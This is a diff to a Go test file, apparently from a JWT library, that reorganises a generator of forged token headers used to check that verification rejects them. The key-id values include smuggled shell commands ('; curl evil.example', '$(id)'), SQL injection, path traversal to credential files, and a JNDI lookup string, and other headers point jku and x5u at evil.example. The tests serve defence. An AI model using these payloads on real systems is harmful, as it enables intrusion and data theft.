@@ -7,79 +7,126 @@ import (
 	"github.com/lostkey-go/lostkey/token"
 )
 
-// headerAttacks have the claims of the victim and a good MAC: only the header
-// is not what our keys write.
+// headerAttacks have the victim's claims and a good MAC. Only the header is not
+// what our keys write.
 func headerAttacks(v victim) []attack {
-	var all []attack
+	f := family{name: "header"}
 	for _, header := range headers() {
-		all = append(all, attack{
-			family: "header", name: abridged(header), raw: seal(v.key, header, v.claims()), want: token.ReasonUnknownKey,
-		})
+		f.add(token.ReasonUnknownKey, abridged(header),
+			seal(v.key, header, v.claims()))
 	}
-	// An injected kid that a key look-up would fall for.
-	return append(all, attack{
-		family: "header", name: "1,000 characters of kid", want: token.ReasonMalformed,
-		raw: seal(v.key, headerOf(repeat("k", 1000), token.Reset), v.claims()),
-	}, attack{
-		family: "header", name: "not JSON, well signed", want: token.ReasonUnknownKey, raw: seal(v.key, "reset", v.claims()),
-	}, attack{
-		family: "header", name: "of purpose invite, MAC of purpose reset", want: token.ReasonWrongPurpose,
-		raw: seal(v.key, headerOf(keyID, token.Invite), v.claims()),
-	})
+
+	// A key id that makes the token over-long.
+	f.add(token.ReasonMalformed, "1,000 characters of kid",
+		seal(v.key, headerOf(repeat("k", 1000), token.Reset), v.claims()))
+	f.add(token.ReasonUnknownKey, "not JSON, well signed",
+		seal(v.key, "reset", v.claims()))
+	f.add(token.ReasonWrongPurpose, "of purpose invite, MAC of purpose reset",
+		seal(v.key, headerOf(keyID, token.Invite), v.claims()))
+	return f.attacks
 }
 
+// headers returns all but one header. $a, $k and $t stand for the members of
+// our own.
 func headers() []string {
-	const alg, kid, typ = `"alg":"HS256"`, `"kid":"` + keyID + `"`, `"typ":"reset+jwt"`
-	all := []string{
-		`{` + alg + `}`, `{` + alg + `,` + kid + `}`, `{` + alg + `,` + typ + `}`, `{` + kid + `,` + typ + `}`, `{}`, `[]`, `null`, `1`, `"HS256"`,
-		// order
-		`{` + alg + `,` + typ + `,` + kid + `}`, `{` + kid + `,` + alg + `,` + typ + `}`, `{` + kid + `,` + typ + `,` + alg + `}`,
-		`{` + typ + `,` + alg + `,` + kid + `}`, `{` + typ + `,` + kid + `,` + alg + `}`,
-		// duplicates, first and last
-		`{"alg":"none",` + alg + `,` + kid + `,` + typ + `}`, `{` + alg + `,"alg":"none",` + kid + `,` + typ + `}`,
-		`{` + alg + `,` + alg + `,` + kid + `,` + typ + `}`, `{` + alg + `,"kid":"x",` + kid + `,` + typ + `}`, `{` + alg + `,` + kid + `,"kid":"x",` + typ + `}`,
-		`{` + alg + `,` + kid + `,"typ":"JWT",` + typ + `}`, `{` + alg + `,` + kid + `,` + typ + `,"typ":"JWT"}`, `{` + alg + `,` + kid + `,` + typ + `,` + typ + `}`,
-		// other case of a name
-		`{"Alg":"HS256",` + kid + `,` + typ + `}`, `{"ALG":"HS256",` + kid + `,` + typ + `}`, `{` + alg + `,"KID":"` + keyID + `",` + typ + `}`,
-		`{` + alg + `,` + kid + `,"Typ":"reset+jwt"}`, `{` + alg + `,"ALG":"none",` + kid + `,` + typ + `}`,
-		// white space
-		` {` + alg + `,` + kid + `,` + typ + `}`, `{` + alg + `,` + kid + `,` + typ + `} `, `{ ` + alg + `,` + kid + `,` + typ + `}`,
-		`{"alg": "HS256",` + kid + `,` + typ + `}`, "{" + alg + ",\n" + kid + "," + typ + "}", "{" + alg + ",\t" + kid + "," + typ + "}",
-		"\ufeff{" + alg + `,` + kid + `,` + typ + `}`,
-		// almost JSON
-		`{` + alg + `,` + kid + `,` + typ + `,}`, `{` + alg + `,` + kid + `,` + typ + `}}`, `{` + alg + `,` + kid + `,` + typ, `{` + alg + `,` + kid + `,` + typ + `}{}`,
-		`{'alg':'HS256',` + kid + `,` + typ + `}`, `{/**/` + alg + `,` + kid + `,` + typ + `}`, `{` + alg + `;` + kid + `;` + typ + `}`,
-		"{" + alg + "," + kid + "," + typ + "}\x00", "{" + alg + ",\"kid\":\"" + keyID + "\xff\"," + typ + "}",
-		// escapes
-		`{"\u0061lg":"HS256",` + kid + `,` + typ + `}`, `{"alg":"HS25\u0036",` + kid + `,` + typ + `}`, `{` + alg + `,` + kid + `,"typ":"reset\u002bjwt"}`,
-		`{` + alg + `,` + kid + `,"typ":"reset+jwt","x":` + repeat("[", 60) + repeat("]", 60) + `}`,
+	var all []string
+	all = append(all, respeltHeaders()...)
+	for _, value := range typValues() {
+		all = append(all, `{$a,$k,"typ":`+value+`}`)
 	}
-	for _, value := range []string{
-		`"JWT"`, `"jwt"`, `"RESET+JWT"`, `"reset+JWT"`, `"Reset+jwt"`, `"reset+jwt "`, `" reset+jwt"`, `"reset"`, `"+jwt"`, `"reset+jwt+jwt"`, `"application/reset+jwt"`,
-		`"at+jwt"`, `"secevent+jwt"`, `"logout+jwt"`, `"dpop+jwt"`, `"reset-jwt"`, `"reset jwt"`, `"email-change+jwt"`, `"JOSE"`, `"JOSE+JSON"`, `""`, `null`, `0`, `true`, `["reset+jwt"]`, `{}`,
-	} {
-		all = append(all, `{`+alg+`,`+kid+`,"typ":`+value+`}`)
+	for _, value := range kidValues() {
+		all = append(all, `{$a,"kid":`+value+`,$t}`)
 	}
-	for _, value := range []string{
-		`null`, `""`, `0`, `202611`, `true`, `[]`, `["` + keyID + `"]`, `{}`, `"2026-12"`, `"2026-1"`, `"2026-11 "`, `" 2026-11"`, `"2026-11\u0000"`, `"2026‑11"`,
-		`"../../../../../../dev/null"`, `"/dev/null"`, `"..\\..\\windows\\win.ini"`, `"file:///dev/null"`, `"/proc/self/environ"`, `"2026-11/../2026-11"`,
-		`"' OR '1'='1"`, `"x' UNION SELECT 'key"`, `"1; DROP TABLE users"`, `"| sleep 10"`, `"; curl evil.example"`, `"$(id)"`, "\"`id`\"", `"${jndi:ldap://evil.example/a}"`, `"{{7*7}}"`,
-		`"https://evil.example/key"`, `"//evil.example/key"`, `"*"`, `"%00"`, `"2026-11,2025-01"`, `"__proto__"`, `"constructor"`,
-	} {
-		all = append(all, `{`+alg+`,"kid":`+value+`,`+typ+`}`)
+	for _, member := range headerExtensions() {
+		all = append(all, `{$a,$k,$t,`+member+`}`)
 	}
-	for _, member := range []string{
-		`"crit":[]`, `"crit":["exp"]`, `"crit":["b64"]`, `"crit":["b64"],"b64":false`, `"b64":false`, `"b64":true`, `"crit":["alg"]`, `"crit":"b64"`, `"crit":null`, `"crit":["http://example.com/unknown"]`,
-		`"zip":"DEF"`, `"cty":"JWT"`, `"cty":"json"`, `"enc":"A256GCM"`, `"epk":{}`, `"apu":"x"`, `"apv":"x"`, `"p2c":1`, `"p2c":2147483647,"p2s":"x"`, `"iv":"x"`, `"tag":"x"`,
-		`"jwk":{"kty":"oct","k":"AA"}`, `"jwk":{"kty":"RSA","n":"AQ","e":"AQAB"}`, `"jku":"https://evil.example/jwks.json"`, `"jku":"http://127.0.0.1/"`, `"x5u":"https://evil.example/cert.pem"`, `"x5c":["AA"]`,
-		`"x5t":"AA"`, `"x5t#S256":"AA"`, `"url":"https://evil.example"`, `"nonce":"x"`, `"iss":"https://evil.example"`, `"sub":"admin"`, `"aud":"x"`, `"exp":1`, `"ppt":"shaken"`, `"svt":[]`, `"x":1`, `"":""`, `"__proto__":{"alg":"none"}`,
-	} {
-		all = append(all, `{`+alg+`,`+kid+`,`+typ+`,`+member+`}`)
+
+	members := strings.NewReplacer("$a", `"alg":"HS256"`,
+		"$k", `"kid":"`+keyID+`"`, "$t", `"typ":"reset+jwt"`)
+	for i := range all {
+		all[i] = members.Replace(all[i])
 	}
 	return all
 }
 
-// abridged is a name for a test out of JSON.
+// respeltHeaders have our members, some of them, or almost.
+func respeltHeaders() []string {
+	return []string{
+		`{$a}`, `{$a,$k}`, `{$a,$t}`, `{$k,$t}`, `{}`, `[]`, `null`, `1`,
+		`"HS256"`,
+		// order
+		`{$a,$t,$k}`, `{$k,$a,$t}`, `{$k,$t,$a}`, `{$t,$a,$k}`, `{$t,$k,$a}`,
+		// duplicates, first and last
+		`{"alg":"none",$a,$k,$t}`, `{$a,"alg":"none",$k,$t}`, `{$a,$a,$k,$t}`,
+		`{$a,"kid":"x",$k,$t}`, `{$a,$k,"kid":"x",$t}`,
+		`{$a,$k,"typ":"JWT",$t}`, `{$a,$k,$t,"typ":"JWT"}`, `{$a,$k,$t,$t}`,
+		// other case of a name
+		`{"Alg":"HS256",$k,$t}`, `{"ALG":"HS256",$k,$t}`,
+		`{$a,"KID":"` + keyID + `",$t}`, `{$a,$k,"Typ":"reset+jwt"}`,
+		`{$a,"ALG":"none",$k,$t}`,
+		// white space
+		` {$a,$k,$t}`, `{$a,$k,$t} `, `{ $a,$k,$t}`, `{"alg": "HS256",$k,$t}`,
+		"{$a,\n$k,$t}", "{$a,\t$k,$t}", "\ufeff{$a,$k,$t}",
+		// almost JSON
+		`{$a,$k,$t,}`, `{$a,$k,$t}}`, `{$a,$k,$t`, `{$a,$k,$t}{}`,
+		`{'alg':'HS256',$k,$t}`, `{/**/$a,$k,$t}`, `{$a;$k;$t}`,
+		"{$a,$k,$t}\x00", "{$a,\"kid\":\"" + keyID + "\xff\",$t}",
+		// escapes
+		`{"\u0061lg":"HS256",$k,$t}`, `{"alg":"HS25\u0036",$k,$t}`,
+		`{$a,$k,"typ":"reset\u002bjwt"}`,
+		`{$a,$k,"typ":"reset+jwt","x":` + repeat("[", 60) + repeat("]", 60) +
+			`}`,
+	}
+}
+
+func typValues() []string {
+	return []string{
+		`"JWT"`, `"jwt"`, `"RESET+JWT"`, `"reset+JWT"`, `"Reset+jwt"`,
+		`"reset+jwt "`, `" reset+jwt"`, `"reset"`, `"+jwt"`, `"reset+jwt+jwt"`,
+		`"application/reset+jwt"`, `"at+jwt"`, `"secevent+jwt"`, `"logout+jwt"`,
+		`"dpop+jwt"`, `"reset-jwt"`, `"reset jwt"`, `"email-change+jwt"`,
+		`"JOSE"`, `"JOSE+JSON"`, `""`, `null`, `0`, `true`, `["reset+jwt"]`,
+		`{}`,
+	}
+}
+
+// kidValues are other ids, and what would reach a file, a table or a shell.
+func kidValues() []string {
+	return []string{
+		`null`, `""`, `0`, `202611`, `true`, `[]`, `["` + keyID + `"]`, `{}`,
+		`"2026-12"`, `"2026-1"`, `"2026-11 "`, `" 2026-11"`, `"2026-11\u0000"`,
+		`"2026‑11"`, `"../../../../../../dev/null"`, `"/dev/null"`,
+		`"..\\..\\windows\\win.ini"`, `"file:///dev/null"`,
+		`"/proc/self/environ"`, `"2026-11/../2026-11"`, `"' OR '1'='1"`,
+		`"x' UNION SELECT 'key"`, `"1; DROP TABLE users"`, `"| sleep 10"`,
+		`"; curl evil.example"`, `"$(id)"`, "\"`id`\"",
+		`"${jndi:ldap://evil.example/a}"`, `"{{7*7}}"`,
+		`"https://evil.example/key"`, `"//evil.example/key"`, `"*"`, `"%00"`,
+		`"2026-11,2025-01"`, `"__proto__"`, `"constructor"`,
+	}
+}
+
+// headerExtensions are members that other headers have.
+func headerExtensions() []string {
+	return []string{
+		`"crit":[]`, `"crit":["exp"]`, `"crit":["b64"]`,
+		`"crit":["b64"],"b64":false`, `"b64":false`, `"b64":true`,
+		`"crit":["alg"]`, `"crit":"b64"`, `"crit":null`,
+		`"crit":["http://example.com/unknown"]`, `"zip":"DEF"`, `"cty":"JWT"`,
+		`"cty":"json"`, `"enc":"A256GCM"`, `"epk":{}`, `"apu":"x"`, `"apv":"x"`,
+		`"p2c":1`, `"p2c":2147483647,"p2s":"x"`, `"iv":"x"`, `"tag":"x"`,
+		`"jwk":{"kty":"oct","k":"AA"}`,
+		`"jwk":{"kty":"RSA","n":"AQ","e":"AQAB"}`,
+		`"jku":"https://evil.example/jwks.json"`, `"jku":"http://127.0.0.1/"`,
+		`"x5u":"https://evil.example/cert.pem"`, `"x5c":["AA"]`, `"x5t":"AA"`,
+		`"x5t#S256":"AA"`, `"url":"https://evil.example"`, `"nonce":"x"`,
+		`"iss":"https://evil.example"`, `"sub":"admin"`, `"aud":"x"`, `"exp":1`,
+		`"ppt":"shaken"`, `"svt":[]`, `"x":1`, `"":""`,
+		`"__proto__":{"alg":"none"}`,
+	}
+}
+
+// abridged makes a name for a test out of JSON.
 func abridged(text string) string {
 	name := strings.Trim(fmt.Sprintf("%+q", text), `"`)
 	name = strings.ReplaceAll(name, `\"`, `"`)
